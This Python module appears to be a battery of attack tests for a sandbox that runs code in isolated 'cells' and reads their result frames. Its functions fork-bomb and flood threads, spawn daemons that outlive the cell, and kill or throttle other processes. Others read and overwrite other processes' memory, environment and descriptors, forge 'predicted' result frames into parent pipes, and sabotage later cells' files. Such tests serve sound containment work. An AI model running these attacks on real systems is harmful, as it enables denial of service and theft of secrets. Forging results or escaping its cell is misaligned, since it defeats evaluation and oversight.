"""Other processes: killing, stopping, starving, reading and changing them; outliving one's cell."""

import ctypes
import os
import resource
import signal
import threading

from tools import (
    FACTS,
    NAME,
    ancestors,
    attack,
    attempt,
    call,
    claim,
    detached,
    frame,
    libc,
    others,
    read,
    shout,
    spill,
    targets,
    time,
)


def sleep():
    time.sleep(600)


@attack
def double_fork(inner):
    detached(sleep)


@attack
def nested_sessions(inner):
    """A chain in which each process leaves the session of its parent, and the parent ends."""
    for _ in range(255):
        if os.fork():
            os._exit(0)
        os.setsid()
    sleep()


@attack
def many_sessions(inner):
    for _ in range(60):
        detached(sleep)


@attack
def fork_bomb(inner):
    for _ in range(9):
        attempt(os.fork)
    sleep()


@attack
def fork_and_end(inner):
    """As a fork bomb, with each process gone as soon as it has a successor."""
    if os.fork():
        return
    end = time.time() + 20
    while time.time() < end:
        if os.fork():
            os._exit(0)
        os.setsid()


@attack
def thread_flood(inner):
    for _ in range(3000):
        thread = threading.Thread(target=sleep)
        thread.daemon = True
        attempt(thread.start)


@attack
def cloned(inner):
    """Children of the parent, children without a signal, children that ptrace cannot follow."""
    for flags in (0x8000, 0x00800000, 0x8000 | 17, 0x20000000 | 17):
        if call("clone", flags, 0, 0, 0, 0) == 0:
            attempt(os.setsid)
            sleep()


@attack
def cloned_with_namespaces(inner):
    arguments = (ctypes.c_uint64 * 11)(0x10000000 | 0x20000000, 0, 0, 0, 17)
    pid = call("clone3", ctypes.byref(arguments), 88)
    if pid == 0:
        time.sleep(0.2)
        os._exit(0)
    if pid > 0:
        claim("a user namespace of its own")


@attack
def subreaper(inner):
    libc.prctl(36, 1, 0, 0, 0)
    for _ in range(5):
        detached(sleep)
    os.kill(os.getpid(), signal.SIGKILL)


@attack
def daemon_by_program(inner):
    os.system("setsid nohup sh -c 'sleep 600; :' >/dev/null 2>&1 &")
    os.system("(trap '' 1 2 3 15; sleep 601 & ) &")


@attack
def stop_itself(inner):
    os.kill(os.getpid(), signal.SIGSTOP)


@attack
def stop_parent(inner):
    for pid in ancestors():
        attempt(os.kill, pid, signal.SIGSTOP)
    time.sleep(0.5)


@attack
def kill_itself(inner):
    os.kill(os.getpid(), signal.SIGKILL)


@attack
def kill_others(inner):
    for pid in targets():
        attempt(os.kill, pid, signal.SIGKILL)


@attack
def interrupt_others(inner):
    for pid in targets():
        for number in (signal.SIGINT, signal.SIGHUP, signal.SIGUSR1, signal.SIGWINCH):
            attempt(os.kill, pid, number)


@attack
def kill_all(inner):
    attempt(os.kill, -1, signal.SIGKILL)
    for pid in others():
        attempt(os.kill, pid, signal.SIGKILL)


@attack
def kill_groups(inner):
    for pid in targets():
        attempt(os.killpg, attempt(os.getpgid, pid) or pid, signal.SIGKILL)
    attempt(os.kill, 0, signal.SIGTERM)


@attack
def kill_by_pidfd(inner):
    for pid in targets():
        call("pidfd_send_signal", call("pidfd_open", pid, 0), 9, None, 0)


@attack
def kill_by_owner(inner):
    """Signals that the kernel sends on somebody's behalf: the owner of a descriptor."""
    import fcntl

    for pid in targets():
        reader, writer = os.pipe()
        attempt(fcntl.fcntl, reader, fcntl.F_SETOWN, pid)
        attempt(fcntl.fcntl, reader, 10, signal.SIGKILL)
        attempt(fcntl.fcntl, reader, fcntl.F_SETFL, os.O_ASYNC)
        os.write(writer, b"x")


@attack
def limits_of_others(inner):
    for pid in targets():
        attempt(resource.prlimit, pid, resource.RLIMIT_NOFILE, (4, 4))
        attempt(resource.prlimit, pid, resource.RLIMIT_FSIZE, (0, 0))


@attack
def time_of_others(inner):
    for pid in targets():
        attempt(resource.prlimit, pid, resource.RLIMIT_CPU, (1, 1))


@attack
def priority_of_others(inner):
    for pid in targets():
        attempt(os.setpriority, os.PRIO_PROCESS, pid, 19)
        attempt(os.setpriority, os.PRIO_PGRP, attempt(os.getpgid, pid) or pid, 19)
        call("ioprio_set", 1, pid, 3 << 13)
    attempt(os.setpriority, os.PRIO_USER, os.getuid(), 18)


@attack
def scheduling_of_others(inner):
    for pid in targets():
        attempt(os.sched_setaffinity, pid, {max(os.sched_getaffinity(pid))})
        attempt(os.sched_setscheduler, pid, os.SCHED_IDLE, os.sched_param(0))


@attack
def oom_of_others(inner):
    for pid in targets():
        for name, text in (("oom_score_adj", b"1000"), ("oom_adj", b"15"), ("autogroup", b"19")):
            attempt(write_bytes, "/proc/%d/%s" % (pid, name), text)


def write_bytes(path, data):
    handle = os.open(path, os.O_WRONLY)
    try:
        os.write(handle, data)
    finally:
        os.close(handle)


@attack
def names_of_others(inner):
    for pid in targets():
        attempt(write_bytes, "/proc/%d/comm" % pid, NAME.encode())


@attack
def environ_of_others(inner):
    for pid in others():
        spill(attempt(read, "/proc/%d/environ" % pid) or b"")


@attack
def command_lines(inner):
    for pid in others():
        spill(attempt(read, "/proc/%d/cmdline" % pid) or b"")


@attack
def descriptors_of_others(inner):
    for pid in targets() + others():
        for name in attempt(os.listdir, "/proc/%d/fd" % pid) or ():
            path = "/proc/%d/fd/%s" % (pid, name)
            kind = attempt(os.readlink, path) or ""
            if kind.startswith("/") and not kind.startswith("/dev"):
                spill(attempt(read, path) or b"")
                attempt(write_bytes, path, NAME.encode())


@attack
def frames_into_others(inner):
    """Frames into the pipes of the parents."""
    result = {"op": "result", "batch": 1, "index": 0, "outcome": "predicted", "outputs": []}
    for pid in ancestors():
        for name in attempt(os.listdir, "/proc/%d/fd" % pid) or ():
            path = "/proc/%d/fd/%s" % (pid, name)
            if (attempt(os.readlink, path) or "").startswith("pipe:"):
                handle = attempt(os.open, path, os.O_WRONLY | os.O_NONBLOCK)
                if handle is not None:
                    claim("opened a pipe of a parent")
                    attempt(os.write, handle, frame(result))


@attack
def stolen_descriptors(inner):
    for pid in targets():
        handle = call("pidfd_open", pid, 0)
        for number in range(64):
            stolen = call("pidfd_getfd", handle, number, 0)
            if stolen >= 0:
                claim("took a descriptor of another process")
                spill(attempt(os.pread, stolen, 4096, 0) or b"")
                return


@attack
def memory_of_others(inner):
    for pid in targets():
        spill(memory_of(pid))


def memory_of(pid):
    """The writable memory of a process, through /proc."""
    found = []
    handle = attempt(os.open, "/proc/%d/mem" % pid, os.O_RDONLY)
    for line in (attempt(read, "/proc/%d/maps" % pid) or b"").decode().splitlines():
        if handle is None or " rw-p " not in line:
            continue
        start, end = (int(part, 16) for part in line.split()[0].split("-"))
        size = min(end - start, 8 << 20)
        found.append(attempt(os.pread, handle, size, start) or b"")
    data = b"".join(found)
    if data:
        claim("read the memory of process %d" % pid)
    return data


@attack
def memory_by_vm_read(inner):
    for pid, address in [(FACTS["victim"], FACTS["victim_address"])]:
        buffer = ctypes.create_string_buffer(64)
        local = (ctypes.c_size_t * 2)(ctypes.addressof(buffer), 64)
        remote = (ctypes.c_size_t * 2)(address & (1 << 8 * ctypes.sizeof(ctypes.c_size_t)) - 1, 64)
        call("process_vm_readv", pid, local, 1, remote, 1, 0)
        spill(buffer.raw)


@attack
def memory_by_vm_write(inner):
    buffer = ctypes.create_string_buffer(NAME.encode())
    local = (ctypes.c_size_t * 2)(ctypes.addressof(buffer), 8)
    remote = (ctypes.c_size_t * 2)(FACTS["victim_address"] & (1 << 64) - 1, 8)
    call("process_vm_writev", FACTS["victim"], local, 1, remote, 1, 0)


@attack
def memory_by_proc_write(inner):
    handle = os.open("/proc/%d/mem" % FACTS["victim"], os.O_RDWR)
    os.pwrite(handle, NAME.encode()[:8], FACTS["victim_address"])


@attack
def traced(inner):
    for pid in targets():
        for request in (16, 0x4206):
            if call("ptrace", request, pid, 0, 0) == 0:
                claim("traces another process")
                time.sleep(0.05)
                call("ptrace", 17, pid, 0, 0)
                return


@attack
def traced_child(inner):
    """Tracing one's own child: the way round many a filter of system calls."""
    pid = os.fork()
    if pid == 0:
        time.sleep(1)
        os._exit(0)
    if call("ptrace", 0x4206, pid, 0, 0) == 0:
        claim("traces its own child")
    os.kill(pid, signal.SIGKILL)


@attack
def compared(inner):
    for pid in targets():
        if call("kcmp", os.getpid(), pid, 0, 0, 0) >= 0:
            claim("compares itself with another process")


@attack
def maps_of_others(inner):
    for pid in targets():
        for name in ("maps", "stack", "syscall", "wchan", "auxv", "io", "limits", "mountinfo"):
            if attempt(read, "/proc/%d/%s" % (pid, name)) and name in ("maps", "auxv", "syscall"):
                claim("reads where process %d has its memory" % pid)
                return


@attack
def inherited(inner):
    """Descriptors that were open before shelflife was started."""
    for number in range(3, 1024):
        kind = attempt(os.readlink, "/proc/self/fd/%d" % number) or ""
        if kind.startswith("/"):
            spill(attempt(os.pread, number, 4096, 0) or b"")
            attempt(os.pwrite, number, NAME.encode(), 0)
            attempt(os.write, number, NAME.encode())
    for number in range(40, 60):
        attempt(os.write, number, NAME.encode())


@attack
def inherited_folder(inner):
    for number in range(3, 64):
        spill(attempt(read_at, number, os.path.basename(FACTS["home_secret"])) or b"")
        for name in attempt(os.listdir, number) or ():
            spill(attempt(read_at, number, name) or b"")


def read_at(folder, name):
    handle = os.open(name, os.O_RDONLY, dir_fd=folder)
    try:
        return os.read(handle, 1 << 16)
    finally:
        os.close(handle)


@attack
def frames_after_the_end(inner):
    """A grandchild that writes results when its cell has long been judged."""
    result = {"op": "result", "batch": 0, "index": 0, "outcome": "predicted", "outputs": []}

    def later():
        for _ in range(40):
            time.sleep(0.1)
            for batch in range(64):
                result["batch"] = batch
                shout(frame(result))

    detached(later)


@attack
def files_after_the_end(inner):
    """A grandchild that goes through the scratch folders of later cells."""
    scratch = os.path.dirname(os.getcwd())

    def later():
        for _ in range(100):
            time.sleep(0.05)
            for name in attempt(os.listdir, scratch) or ():
                attempt(write_bytes, os.path.join(scratch, name, "json.py"), b"1/0")
                attempt(os.chmod, os.path.join(scratch, name), 0)

    detached(later)


@attack
def group_of_parent(inner):
    for pid in ancestors():
        attempt(os.setpgid, 0, attempt(os.getpgid, pid) or 0)
    if os.getpgrp() in [attempt(os.getpgid, pid) for pid in ancestors()]:
        claim("joined the group of a parent")
